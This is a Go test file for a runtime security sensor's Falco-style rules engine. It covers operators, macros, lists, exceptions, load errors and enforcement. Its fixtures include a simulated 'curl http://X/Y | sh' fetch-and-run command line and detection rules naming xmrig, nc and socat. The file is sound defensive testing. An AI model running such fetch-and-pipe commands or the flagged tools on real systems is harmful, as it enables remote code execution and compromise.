package rules

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/pavesec/pave/internal/sensor/event"
)

// fromYAML compiles rules files given as text, in order.
func fromYAML(t *testing.T, files ...string) (*Engine, *LoadReport) {
	t.Helper()
	s := newRuleSet()
	for i, f := range files {
		if err := s.load("f"+string(rune('0'+i)), []byte(f)); err != nil {
			t.Fatalf("load: %v", err)
		}
	}
	e, rep := compileSet(s)
	return e, rep
}

// oneRule wraps a condition in a rule named r.
func oneRule(cond string) string {
	return "- rule: r\n  desc: d\n  condition: " + cond + "\n  output: out %proc.name\n  priority: WARNING\n"
}

func fires(e *Engine, ev *event.Event) bool {
	for _, f := range e.Analyze(ev) {
		if f.Rule.ID == "falco:r" {
			return true
		}
	}
	return false
}

func status(rep *LoadReport, name string) RuleStatus {
	for _, r := range rep.Rules {
		if r.Name == name {
			return r
		}
	}
	return RuleStatus{}
}

// TestOperators checks each operator and field family on events.
func TestOperators(t *testing.T) {
	shell := execEv("bash", args("-c", "curl http://X/Y | sh"), parents("nginx", "containerd-shim"), euid(1000))
	conn := connectEv("curl", "ipv4", "10.1.2.3", 8443)
	sock := connectEv("curl", "unix", "/var/run/docker.sock", 0)
	file := openEv("vi", "/etc/nginx/conf.d/default.conf", true)
	hostEv := execEv("sh", onHost)
	tests := []struct {
		cond string
		ev   *event.Event
		want bool
	}{
		{"evt.type = execve", shell, true},
		{"evt.type = execveat", shell, true},
		{"evt.type in (open, openat2)", file, true},
		{"evt.type != execve", file, true},
		{"evt.type != execve", shell, false},
		{"evt.dir = <", shell, true},
		{"proc.name = bash", shell, true},
		{"proc.name == bash", shell, true},
		{"proc.name != bash", shell, false},
		{"proc.name in (sh, bash)", shell, true},
		{"proc.name in (a, b, c, d, e, f, g, bash)", shell, true},
		{"proc.name in (a, b, c, d, e, f, g, h)", shell, false},
		{"proc.cmdline = 'bash -c curl http://X/Y | sh'", shell, true},
		{"proc.args startswith '-c curl'", shell, true},
		{"proc.cmdline contains 'http://X'", shell, true},
		{"proc.cmdline icontains 'HTTP://x/y'", shell, true},
		{"proc.cmdline contains 'http://x'", shell, false},
		{"proc.cmdline endswith '| sh'", shell, true},
		{"proc.cmdline bcontains 687474703a", shell, true},
		{"proc.cmdline bstartswith 62617368", shell, true},
		{"proc.exepath glob '/usr/*/bash'", shell, true},
		{"proc.cmdline iglob '*HTTP*'", shell, true},
		{"proc.cmdline regex 'curl .*\\| *sh$'", shell, true},
		{"proc.pname = nginx", shell, true},
		{"proc.aname[1] = nginx", shell, true},
		{"proc.aname[2] = containerd-shim", shell, true},
		{"proc.aname[0] = bash", shell, true},
		{"proc.aname[3] = x", shell, false},
		{"proc.aname[3] exists", shell, false},
		{"proc.aname = containerd-shim", shell, true},
		{"proc.aname in (x, nginx)", shell, true},
		{"proc.aname startswith contai", shell, true},
		{"proc.aname != nginx", shell, false},
		{"proc.aname != zzz", shell, true},
		{"proc.pexepath = /usr/bin/nginx", shell, true},
		{"proc.aexepath[2] = /usr/bin/containerd-shim", shell, true},
		{"proc.pname exists", shell, true},
		{"proc.pname exists", execEv("sh", parents()), false},
		{"not proc.pname exists", execEv("sh", parents()), true},
		{"proc.pname != x", execEv("sh", parents()), false},
		{"proc.pid = 4321 and proc.ppid = 4000 and proc.vpid = 42", shell, true},
		{"proc.tty = 0", shell, true},
		{"proc.tty != 0", execEv("sh", tty), true},
		{"user.uid = 1000 and user.uid > 999 and user.uid >= 1000 and user.uid < 1001 and user.uid <= 1000", shell, true},
		{"user.uid in (0, 1000)", shell, true},
		{"user.name = 1000", shell, true},
		{"user.name = root", execEv("sh"), true},
		{"user.loginuid = -1", shell, true},
		{"group.gid = 0", shell, true},
		{"proc.is_exe_from_memfd = false", shell, true},
		{"thread.cap_effective icontains sys_admin", execEv("sh", func(ev *event.Event) { ev.Proc.CapEffective = 1 << 21 }), true},
		{"container.id = 4f1c2d3e4a5b", shell, true},
		{"container.full_id = " + testCID, shell, true},
		{"container.id = host", hostEv, true},
		{"container.id != host", hostEv, false},
		{"container.name = host", hostEv, true},
		{"container.image.repository = docker.io/library/nginx", shell, true},
		{"container.image.tag = '1.27'", shell, true},
		{"container.image.digest startswith sha256:aaaa", shell, true},
		{"container.image = docker.io/library/nginx:1.27", shell, true},
		{"container.image.repository exists", hostEv, false},
		{"container.privileged = false", shell, true},
		{"fd.name = /etc/nginx/conf.d/default.conf", file, true},
		{"fd.directory = /etc/nginx/conf.d", file, true},
		{"fd.filename = default.conf", file, true},
		{"fd.typechar = f and fd.type = file", file, true},
		{"fd.name pmatch (/etc/nginx)", file, true},
		{"fd.name pmatch (/etc/ngin)", file, false},
		{"fd.name pmatch (/etc/nginx/)", file, true},
		{"evt.is_open_write = true and evt.is_open_read = false", file, true},
		{"evt.arg.flags contains O_TRUNC and evt.arg.flags contains O_CREAT", file, true},
		{"evt.arg.flags startswith O_WRONLY", file, true},
		{"evt.arg.name = /etc/nginx/conf.d/default.conf", file, true},
		{"evt.arg[2] = /etc/nginx/conf.d/default.conf", file, true},
		{"fd.num = 3 and evt.res = SUCCESS and evt.rawres = 3", file, true},
		{"evt.res = EACCES", openEv("cat", "/x", false, ret(-13)), true},
		{"fd.num = -1", openEv("cat", "/x", false, ret(-13)), true},
		{"fd.name exists", shell, false},
		{"fd.name = '172.17.0.2:40000->10.1.2.3:8443'", conn, true},
		{"fd.typechar = 4 and fd.l4proto = tcp and fd.sockfamily = ip", conn, true},
		{"fd.sip = 10.1.2.3 and fd.sport = 8443 and fd.cip = 172.17.0.2", conn, true},
		{"fd.rip = 10.1.2.3 and fd.rport = 8443 and fd.lport = 40000", conn, true},
		{"fd.net = 10.0.0.0/8", conn, true},
		{"fd.snet in (192.168.0.0/16, 10.1.0.0/16)", conn, true},
		{"fd.rnet != 10.0.0.0/8", conn, false},
		{"fd.cnet = 172.17.0.0/16", conn, true},
		{"fd.ip = 10.1.2.3", conn, true},
		{"fd.port = 8443", conn, true},
		{"fd.rnet = 10.1.2.3", conn, true},
		{"fd.typechar = u and fd.name = /var/run/docker.sock", sock, true},
		{"fd.l4proto exists", sock, false},
		{"evt.num > 0", shell, true},
		{"evt.args contains 'exe=/usr/bin/bash'", shell, true},
	}
	for _, tc := range tests {
		e, rep := fromYAML(t, oneRule(tc.cond))
		if st := status(rep, "r"); !st.Enabled {
			t.Errorf("%q: disabled: %v", tc.cond, st.Disabled)
			continue
		}
		if got := fires(e, tc.ev); got != tc.want {
			t.Errorf("%q on %s: %v, want %v", tc.cond, tc.ev.Type, got, tc.want)
		}
	}
}

// TestDisabledReasons: what the engine cannot answer disables a rule.
func TestDisabledReasons(t *testing.T) {
	tests := []struct{ cond, want string }{
		{"proc.sname = java", "proc.sname: session leaders are not tracked"},
		{"fd.sip.name = x", "peer addresses are not resolved"},
		{"no.such.field = 1", "no.such.field: unknown field"},
		{"evt.type = symlink", "event types not observed by the sensor: symlink"},
		{"evt.type in (symlink, init_module) and proc.name = x", "event types not observed by the sensor: init_module, symlink"},
		{"evt.dir = >", "enter events"},
		{"user.name = www-data", "user names other than root"},
		{"undefined_macro", "undefined macro undefined_macro"},
		{"a_loop", "macro a_loop refers to itself"},
		{"bad_macro", "macro bad_macro: syntax error"},
		{"proc.name = (", "condition: syntax error"},
		{"user.uid = abc", `"abc" is not a number`},
		{"proc.name < b", "ordering operators need a numeric field"},
		{"proc.name regex '('", "bad regex"},
		{"fd.net = notanip", "neither an address nor a network"},
		{"proc.name bcontains zz", "not hex bytes"},
		{"evt.arg.oldpath = x", "evt.arg.oldpath: this event argument is not recorded"},
		{"proc.name in (loop_list)", "list loop_list refers to itself"},
		{"proc.aname[x] = y", "ancestor level"},
		{"k8s.pod.label.app = x", "labels are not exposed"},
		{"not proc.name = x", "the condition matches no event type"},
		{"ka.verb = create\n  source: k8s_audit", "source k8s_audit: only the syscall source is evaluated"},
	}
	macros := "- macro: a_loop\n  condition: b_loop\n- macro: b_loop\n  condition: a_loop\n" +
		"- macro: bad_macro\n  condition: proc.name in (\n" +
		"- list: loop_list\n  items: [a, loop_list2]\n- list: loop_list2\n  items: [loop_list]\n"
	for _, tc := range tests {
		_, rep := fromYAML(t, macros+oneRule(tc.cond))
		st := status(rep, "r")
		if tc.want == "the condition matches no event type" {
			// A rule with no evt.type restriction runs on every type.
			if !st.Enabled {
				t.Errorf("%q: disabled %v", tc.cond, st.Disabled)
			}
			continue
		}
		if st.Enabled || !strings.Contains(strings.Join(st.Disabled, "; "), tc.want) {
			t.Errorf("%q: enabled %v reasons %q, want %q", tc.cond, st.Enabled, st.Disabled, tc.want)
		}
	}
}

// TestExclusionNotes: an unanswerable comparison under a not narrows an
// exclusion; it is taken as false, so the rule still fires, with a note.
func TestExclusionNotes(t *testing.T) {
	e, rep := fromYAML(t, oneRule("evt.type = execve and not (proc.env contains java or user.name = www-data)"))
	st := status(rep, "r")
	if !st.Enabled || len(st.Notes) != 2 {
		t.Fatalf("status %+v", st)
	}
	if !fires(e, execEv("sh")) {
		t.Error("rule with an unanswerable exclusion did not fire")
	}
	// A not that is not an exclusion of the rule (here under an or, used
	// to test that a value is present) gives no licence to guess.
	_, rep = fromYAML(t, oneRule("evt.type = execve and (proc.name = x or not proc.env in (a))"))
	if status(rep, "r").Enabled {
		t.Error("a negated unsupported field under an or did not disable the rule")
	}
	// not not X puts X back in a positive position.
	_, rep = fromYAML(t, oneRule("evt.type = execve and not not proc.env contains java"))
	if status(rep, "r").Enabled {
		t.Error("double negation of an unsupported field did not disable the rule")
	}
}

func TestListsMacrosAppendOverride(t *testing.T) {
	base := `
- required_engine_version: 0.50.0
- required_plugin_versions:
    - name: container
      version: 0.4.0
- list: shells
  items: [bash, '"my sh"']
- list: more
  items: [shells, zsh]
- macro: spawned
  condition: evt.type in (execve, execveat)
- macro: is_shell
  condition: proc.name in (more)
- rule: r
  desc: d
  condition: spawned and is_shell
  output: "shell %proc.name by %proc.pname (%proc.aname[2]) %no.such.field %"
  priority: NOTICE
  tags: [a]
- rule: other
  desc: d
  condition: spawned
  output: o
  priority: INFO
  enabled: false
`
	user := `
- list: shells
  items: [dash]
  append: true
- macro: is_shell
  condition: or proc.name = fish
  append: true
- rule: r
  condition: and not proc.pname = sshd
  append: true
- rule: other
  enabled: true
- rule: r
  output: "replaced %proc.name"
  priority: CRITICAL
  tags: [b]
  override:
    output: replace
    priority: replace
    tags: append
`
	e, rep := fromYAML(t, base, user)
	if st := status(rep, "other"); !st.Enabled {
		t.Errorf("legacy enabled toggle: %+v", st)
	}
	for _, tc := range []struct {
		ev   *event.Event
		want bool
	}{
		{execEv("bash"), true},
		{execEv("my sh"), true},
		{execEv("zsh"), true},
		{execEv("dash"), true},
		{execEv("fish"), true},
		{execEv("python"), false},
		{execEv("bash", parents("sshd")), false},
		{openEv("bash", "/x", false), false},
	} {
		if got := fires(e, tc.ev); got != tc.want {
			t.Errorf("%s %s: fired %v, want %v", tc.ev.Type, tc.ev.Proc.Comm, got, tc.want)
		}
	}
	fs := e.Analyze(execEv("bash"))
	var got []string
	for _, f := range fs {
		if f.Rule.ID == "falco:r" {
			got = append(got, f.Evidence, f.Severity.String())
		}
	}
	if diff := cmp.Diff([]string{"replaced bash", "critical"}, got); diff != "" {
		t.Errorf("override (-want +got):\n%s", diff)
	}
	// The output before the override rendered missing and unknown fields as <NA>.
	e2, _ := fromYAML(t, base)
	for _, f := range e2.Analyze(execEv("bash", parents())) {
		if f.Rule.ID == "falco:r" && f.Evidence != "shell bash by <NA> (<NA>) <NA> %" {
			t.Errorf("rendered %q", f.Evidence)
		}
	}
}

func TestExceptions(t *testing.T) {
	rules := `
- list: allowed
  items: [trusted]
- rule: r
  desc: d
  condition: evt.type = openat and fd.name startswith /etc/
  output: o
  priority: WARNING
  exceptions:
    - name: by_proc_and_dir
      fields: [proc.name, fd.directory]
      comps: [=, startswith]
      values:
        - [vi, /etc/nginx]
    - name: by_list
      fields: [proc.name, fd.directory]
      comps: [in, startswith]
      values:
        - [[allowed, ed], /etc]
    - name: by_name
      fields: proc.name
      values: [sed, awk]
    - name: unused
      fields: [proc.name]
`
	more := `
- rule: r
  exceptions:
    - name: by_name
      values: [cp]
  append: true
`
	e, rep := fromYAML(t, rules, more)
	if st := status(rep, "r"); !st.Enabled {
		t.Fatalf("%+v", st)
	}
	for _, tc := range []struct {
		ev   *event.Event
		want bool
	}{
		{openEv("vi", "/etc/nginx/nginx.conf", true), false},
		{openEv("vi", "/etc/passwd", true), true},
		{openEv("trusted", "/etc/passwd", true), false},
		{openEv("ed", "/etc/x/y", true), false},
		{openEv("sed", "/etc/passwd", true), false},
		{openEv("awk", "/etc/passwd", true), false},
		{openEv("cp", "/etc/passwd", true), false},
		{openEv("cat", "/etc/passwd", false), true},
	} {
		if got := fires(e, tc.ev); got != tc.want {
			t.Errorf("%s %s: fired %v, want %v", tc.ev.Proc.Comm, tc.ev.File.Path, got, tc.want)
		}
	}
}

func TestLoadErrors(t *testing.T) {
	tests := []struct{ in, want string }{
		{"- rule: [", "invalid YAML"},
		{"rule: x", "a rules file is a YAML list"},
		{"- just a string", "an item must be a mapping"},
		{"- list: l\n  items: notalist", "items must be a list"},
		{"- list: l\n  items: [a]\n  append: true", "appends to a list not defined before"},
		{"- macro: m\n  condition: x\n  append: true", "appends to a macro not defined before"},
		{"- rule: r\n  condition: x\n  append: true", "appends to or overrides a rule not defined before"},
		{"- rule: r\n  condition: x\n  priority: LOUD\n  output: o", `unknown priority "LOUD"`},
		{"- rule: r\n  condition: x\n  priority: INFO\n  enabled: maybe", "enabled must be true or false"},
		{"- rule: r\n  condition: [x]\n  priority: INFO", "condition must be a string"},
		{"- rule: r\n  tags: a", "tags must be a list"},
		{"- rule: r\n  exceptions: x", "exceptions must be a list"},
		{"- rule: r\n  condition: x\n  override:\n    condition: merge", "must be append or replace"},
		{"- list: a\n  items: &x [a]\n- list: b\n  items: *x", "aliases are not supported"},
		{"- rule: r\n  rule: s", "already defined"},
		{"- macro: \n  condition: x", "macro needs a name"},
	}
	for _, tc := range tests {
		s := newRuleSet()
		err := s.load("t", []byte(tc.in))
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%q: error %v, want %q", tc.in, err, tc.want)
		}
	}
}

func TestLoadFiles(t *testing.T) {
	dir := t.TempDir()
	good := filepath.Join(dir, "good.yaml")
	if err := os.WriteFile(good, []byte(oneRule("evt.type = execve and proc.name = xmrig")+"  tags: [pave.enforce]\n- unknown_item: 1\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	e, rep, err := Load(context.Background(), Options{Files: []string{good}, NoBuiltin: true})
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]string{"xmrig"}, e.EnforcedExecNames()); diff != "" {
		t.Errorf("enforced names (-want +got):\n%s", diff)
	}
	if !strings.Contains(rep.String(), "1 rules loaded: 1 enabled, 0 disabled") || !strings.Contains(rep.String(), `unknown item "unknown_item"`) {
		t.Errorf("report:\n%s", rep)
	}
	// A name the rule only alerts on in some contexts is not killed by name.
	partial := filepath.Join(dir, "partial.yaml")
	if err := os.WriteFile(partial, []byte(oneRule("evt.type = execve and proc.name in (nc, socat) and not proc.pname = sh")+"  tags: [pave.enforce]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if e, _, err := Load(context.Background(), Options{Files: []string{partial}, NoBuiltin: true}); err != nil || len(e.EnforcedExecNames()) != 0 {
		t.Errorf("partial: %v %v", e.EnforcedExecNames(), err)
	}
	if _, _, err := Load(context.Background(), Options{Files: []string{filepath.Join(dir, "missing.yaml")}}); err == nil || !strings.HasPrefix(err.Error(), "rules: load ") {
		t.Errorf("missing file: %v", err)
	}
	bad := filepath.Join(dir, "bad.yaml")
	if err := os.WriteFile(bad, []byte("- rule: [\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, _, err := Load(context.Background(), Options{Files: []string{bad}}); err == nil || strings.Contains(err.Error(), "\n") {
		t.Errorf("bad file: error %q, want one line", err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, _, err := Load(ctx, Options{Files: []string{good}}); err == nil {
		t.Error("cancelled context: no error")
	}
}

// TestConditionBudget: macros that double at every level would expand to
// 2^40 nodes; the rule is disabled instead of compiled forever.
func TestConditionBudget(t *testing.T) {
	var b strings.Builder
	for i := 0; i < 40; i++ {
		fmt.Fprintf(&b, "- macro: m%d\n  condition: (m%d and m%d)\n", i, i+1, i+1)
	}
	b.WriteString("- macro: m40\n  condition: proc.name = x\n")
	b.WriteString("- list: l0\n  items: [a]\n")
	for i := 1; i < 40; i++ {
		fmt.Fprintf(&b, "- list: l%d\n  items: [l%d, l%d]\n", i, i-1, i-1)
	}
	_, rep := fromYAML(t, b.String()+oneRule("evt.type = execve and m0"))
	if st := status(rep, "r"); st.Enabled || !strings.Contains(st.Disabled[0], "condition too large") {
		t.Errorf("macros: %+v", st)
	}
	_, rep = fromYAML(t, b.String()+oneRule("evt.type = execve and proc.name in (l39)"))
	if st := status(rep, "r"); st.Enabled || !strings.Contains(st.Disabled[0], "condition too large") {
		t.Errorf("lists: %+v", st)
	}
}

// TestUnobservedBranch: a branch that can only match unobserved event
// types is dropped with whatever it tests; the rest of the rule runs.
func TestUnobservedBranch(t *testing.T) {
	e, rep := fromYAML(t, oneRule("((evt.type = connect) or (evt.type in (sendto, sendmsg) and fd.connected = false)) and fd.rport = 22"))
	st := status(rep, "r")
	if !st.Enabled || !strings.Contains(strings.Join(st.Notes, ";"), "sendmsg, sendto") {
		t.Fatalf("%+v", st)
	}
	if !fires(e, connectEv("ssh", "ipv4", "10.0.0.1", 22)) || fires(e, connectEv("ssh", "ipv4", "10.0.0.1", 80)) {
		t.Error("connect branch does not work")
	}
	// The same unsupported field on an observed branch still disables.
	_, rep = fromYAML(t, oneRule("evt.type = connect and fd.connected = false"))
	if status(rep, "r").Enabled {
		t.Error("fd.connected on connect did not disable the rule")
	}
}
